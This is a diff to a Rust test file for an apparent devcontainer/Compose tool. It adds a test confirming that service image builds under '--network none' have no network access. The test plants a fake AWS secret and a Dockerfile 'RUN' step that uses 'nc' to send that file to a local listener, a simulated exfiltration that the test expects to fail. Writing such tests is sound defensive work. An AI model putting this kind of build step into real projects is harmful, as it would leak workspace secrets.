@@ -408,7 +408,7 @@ fn a_remote_build_context_is_never_fetched_by_default() {
     if !crate::support::engine::engine_is_podman() {
         assert!(hits() > 0, "the tripwire itself must see a fetch");
     }
-    ctx.run("down", &["--remove"]);
+    ctx.run("down", &["--remove"]).ok();
 }
 
 /// A service (sidecar or primary) with `network_mode: bridge` (or `default`) under `--network
@@ -1481,5 +1481,56 @@ fn models_and_unknown_keys_are_refused_before_compose_runs() {
         "{err}"
     );
     assert!(err.contains("Compose service `side` (`models`)"), "{err}");
+    assert!(project_containers(&project).is_empty());
+}
+
+/// A service's image build during a closed handoff (attacks K8, spec-note 0442): Compose
+/// builds a `build:` on the engine's default network unless told otherwise, so a Dockerfile
+/// `RUN` step could send the workspace away while the container itself has no network. Under
+/// `--network none` the primary's build and a sidecar's get `build.network: none`: the
+/// listener on the engine's bridge address gets no connection and the `RUN` steps see no
+/// route; a repository's own `build.network` is a `build-network` request, refused.
+#[test]
+fn a_service_build_in_a_closed_handoff_has_no_network() {
+    let Some(ctx) = TestContext::busybox("hostile_compose_build_net") else {
+        return;
+    };
+    let ctx = ctx.isolated();
+    let project = own_project(&ctx);
+    ctx.remove_images_matching(&format!("{project}-*"));
+    let listener = super::env_and_build::Listener::start();
+    let (host, port) = listener.address.rsplit_once(':').unwrap();
+    ctx.write(".env.local", "AWS_SECRET=s3cr3t-from-workspace\n");
+    ctx.write(
+        ".devcontainer/Dockerfile",
+        &format!(
+            "FROM {BUSYBOX_IMAGE}\nCOPY .env.local /tmp/s\nRUN (if nc -w 3 {host} {port} < /tmp/s; then echo reached; else echo unreachable; fi; echo routes=$(tail -n +2 /proc/net/route | wc -l)) > /probe.txt\n"
+        ),
+    );
+    let build = "    build: {context: .., dockerfile: .devcontainer/Dockerfile}\n    command: [\"sleep\", \"100000\"]\n";
+    let file = format!("services:\n  app:\n{build}  side:\n{build}");
+    ctx.write(".devcontainer/docker-compose.yml", &file);
+    let ctx = ctx.config(&CONFIG.replace("SERVICE", "app"));
+    let run = ctx.run("up", &["--network", "none"]);
+    assert!(run.success(), "{}", run.failed());
+    assert_eq!(listener.hits(), 0, "a service's build reached the bridge");
+    for service in ["app", "side"] {
+        let image = format!("{project}-{service}");
+        let probe = docker_lines(&["run", "--rm", &image, "cat", "/probe.txt"]);
+        assert_eq!(probe, ["unreachable", "routes=0"], "{service}");
+    }
+    ctx.run("down", &["--remove"]).ok();
+    assert!(project_containers(&project).is_empty());
+
+    // the repository's own build network is a request under a closed network
+    ctx.remove_images_matching(&format!("{project}-*"));
+    ctx.write(
+        ".devcontainer/docker-compose.yml",
+        &file.replacen("    build: {", "    build: {network: default, ", 1),
+    );
+    let refused = ctx.run("up", &["--network", "none"]);
+    let stderr = refused.failed();
+    assert!(stderr.contains("build-network"), "{stderr}");
+    assert_eq!(listener.hits(), 0);
     assert!(project_containers(&project).is_empty());
 }
